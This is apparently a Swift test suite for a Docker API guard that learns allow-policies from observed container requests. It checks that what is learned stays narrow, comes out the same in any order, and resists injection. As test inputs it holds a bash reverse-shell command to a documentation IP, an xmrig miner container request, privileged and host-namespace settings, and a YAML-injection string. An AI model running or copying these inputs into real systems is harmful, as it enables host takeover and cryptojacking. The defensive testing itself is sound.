import Foundation
import Judge
import Relay
import Sigma
import Testing

@testable import DockerGuard

@Suite struct LearningTests {
    private static let asked: [(String, String, String?)] = [
        ("POST", "/containers/create", #"{"HostConfig":{"CapAdd":["SYS_ADMIN","cap_net_admin"]}}"#),
        ("POST", "/containers/create", #"{"HostConfig":{"Binds":["/srv/b/sub:/b","/srv/a:/a","/srv/b:/b2"]}}"#),
        ("POST", "/containers/create", #"{"HostConfig":{"PidMode":"host","SecurityOpt":["label=disable"]}}"#),
        ("POST", "/build?remote=https://git.example/x.git", nil),
        ("POST", "/plugins/x/enable", nil),
    ]

    @Test func `the learned policy lets pass what was learned, and nothing wider`() async throws {
        let learner = PolicyLearner()
        let watching = try GuardUnderTest(daemon: ProfilePartTests.daemon, mode: .observe, learner: learner)
        for (method, target, body) in Self.asked { #expect(await watching.fate(method, target, body) == .passes) }

        let learned = try GuardUnderTest(policy: GuardUnderTest.policy(learner.policy), daemon: ProfilePartTests.daemon)
        for (method, target, body) in Self.asked { #expect(await learned.fate(method, target, body) == .passes) }
        for body in [
            #"{"HostConfig":{"CapAdd":["SYS_MODULE"]}}"#, #"{"HostConfig":{"Binds":["/srv:/x"]}}"#,
            #"{"HostConfig":{"IpcMode":"host"}}"#, #"{"HostConfig":{"SecurityOpt":["seccomp=unconfined"]}}"#,
            #"{"HostConfig":{"Privileged":true}}"#,
        ] {
            #expect(await learned.fate("POST", "/containers/create", body).isRefused, "\(body)")
        }
        #expect(await learned.fate("POST", "/build?remote=https://git.example/y.git").isRefused)
        #expect(await learned.fate("POST", "/swarm/leave").isRefused)
    }

    @Test func `the policy is the same in whichever order requests come, merged and sorted`() async throws {
        let (first, second) = (PolicyLearner(), PolicyLearner())
        let one = try GuardUnderTest(daemon: ProfilePartTests.daemon, mode: .observe, learner: first)
        let other = try GuardUnderTest(daemon: ProfilePartTests.daemon, mode: .observe, learner: second)
        for (method, target, body) in Self.asked { _ = await one.fate(method, target, body) }
        for (method, target, body) in Self.asked.reversed() + Self.asked { _ = await other.fate(method, target, body) }
        #expect(first.policy == second.policy)
        let lines = first.policy.split(separator: "\n").filter { !$0.contains("#") }.joined(separator: "\n")
        #expect(
            lines == """
                profile: strict
                allow:
                  binds:
                    - "/srv/a"
                    - "/srv/b"
                  build-contexts:
                    - "https://git.example/x.git"
                  capabilities:
                    - "NET_ADMIN"
                    - "SYS_ADMIN"
                  host-namespaces:
                    - "pid"
                  plugins: true
                  security-options:
                    - "label=disable"
                """
        )
    }

    @Test func `what would open more than was asked for is not learned`() async throws {
        let learner = PolicyLearner()
        let watching = try GuardUnderTest(mode: .observe, learner: learner)
        _ = await watching.fate("POST", "/containers/create", #"{"HostConfig":{"Sysctls":{"*":"1"}}}"#)
        _ = await watching.fate("POST", "/containers/create", #"{"HostConfig":{"Binds":["/proc/1/root:/h"]}}"#)
        let policy = try GuardUnderTest.policy(learner.policy)
        #expect(policy.otherwise?.allowances == Allowances())
        #expect(learner.policy.contains("# 1 requests were refused by 'binds', which no policy opens."))
    }

    @Test func `a value that would end its line stays a value`() async throws {
        let learner = PolicyLearner()
        let watching = try GuardUnderTest(mode: .observe, learner: learner)
        let runtime = #"x\"\n  privileged: true\n#"#
        let body = #"{"HostConfig":{"Runtime":"\#(runtime)"}}"#
        _ = await watching.fate("POST", "/containers/create", body)
        let policy = try GuardUnderTest.policy(learner.policy)
        #expect(policy.otherwise?.allowances.openings == [.runtimes: .values(["x\"\n  privileged: true\n#"])])
    }

    // MARK: What rules refuse

    /// Requests that a built-in rule refuses, and no part of the profile does.
    private static let miner = #"{"Image":"registry.example.test/bench/xmrig:6","Cmd":["xmrig","-o","pool:3333"]}"#

    private static func client(_ user: UInt32) -> Client {
        var client = GuardUnderTest.client
        client.peer = PeerCredentials(processID: 1, userID: user, groupID: user)
        return client
    }

    /// A guard with what was learned from these requests of user 1000, over the built-in rules.
    private static func learned(_ bodies: [String]) async throws -> (guarded: GuardUnderTest, learner: PolicyLearner) {
        let learner = PolicyLearner(exceptionsFile: "/etc/tidewaiter/learned.exceptions.yml")
        let watching = try GuardUnderTest(rules: .builtIn, mode: .observe, learner: learner)
        for body in bodies {
            #expect(await watching.fate("POST", "/containers/create", body, from: client(1000)) == .passes)
        }
        var rules = RuleLibrary.builtIn
        if let exceptions = learner.exceptions { rules.add(exceptions, file: "learned.exceptions.yml") }
        #expect(rules.diagnostics.map(\.description) == [])
        #expect(rules.idleFilters().map(\.description) == [])
        let policy = try GuardUnderTest.policy(learner.policy)
        return (try GuardUnderTest(policy: policy, rules: rules), learner)
    }

    @Test func `what a rule refused is learned for the image and the user alone`() async throws {
        let (guarded, learner) = try await Self.learned([Self.miner])
        let path = "/containers/create"
        #expect(await guarded.fate("POST", path, Self.miner, from: Self.client(1000)) == .passes)
        #expect(await guarded.fate("POST", path, Self.miner, from: Self.client(1001)).isRefused)
        #expect(await guarded.fate("POST", path, Self.miner).isRefused)
        let other = Self.miner.replacingOccurrences(of: "bench/xmrig", with: "other/xmrig")
        #expect(await guarded.fate("POST", path, other, from: Self.client(1000)).isRefused)
        // The same image and user, found by another rule.
        let command = #"["sh","-c","bash -i >& /dev/tcp/192.0.2.1/9 0>&1"]"#
        let shell = #"{"Image":"registry.example.test/bench/xmrig:6","Cmd":\#(command)}"#
        #expect(await guarded.fate("POST", path, shell, from: Self.client(1000)).isRefused)
        #expect(learner.policy.contains("\nexceptions: \"/etc/tidewaiter/learned.exceptions.yml\"\n"))
        #expect(try GuardUnderTest.policy(learner.policy).exceptionPaths == ["/etc/tidewaiter/learned.exceptions.yml"])
    }

    @Test func `exceptions are the same in whichever order requests come`() async throws {
        let bodies = [Self.miner, Self.miner.replacingOccurrences(of: "bench/", with: "b/"), Self.miner]
        let (first, second) = (try await Self.learned(bodies), try await Self.learned(bodies.reversed()))
        let text = try #require(first.learner.exceptions)
        #expect(text == second.learner.exceptions)
        #expect(text.components(separatedBy: "---\n").count == 2)
        #expect(text.contains("container.image.name: \"registry.example.test/b/xmrig\""))
        #expect(text.contains("user.name|cased: \"uid:1000\""))
    }

    @Test func `where no rule refuses there are no exceptions, and the policy names none`() async throws {
        let plain = try await Self.learned([#"{"Image":"alpine","Cmd":["true"]}"#]).learner
        #expect(plain.exceptions == nil)
        #expect(!plain.policy.contains("exceptions:"))
    }

    @Test func `a user whose name would stand for others is not learned`() async throws {
        let learner = PolicyLearner()
        let watching = try GuardUnderTest(rules: .builtIn, mode: .observe, learner: learner)
        var client = GuardUnderTest.client
        client.certificate = ClientCertificate(subject: "CN=*", commonName: "*")
        _ = await watching.fate("POST", "/containers/create", Self.miner, from: client)
        #expect(learner.exceptions == nil)
        #expect(learner.policy.contains("no exception was learned"))
    }
}
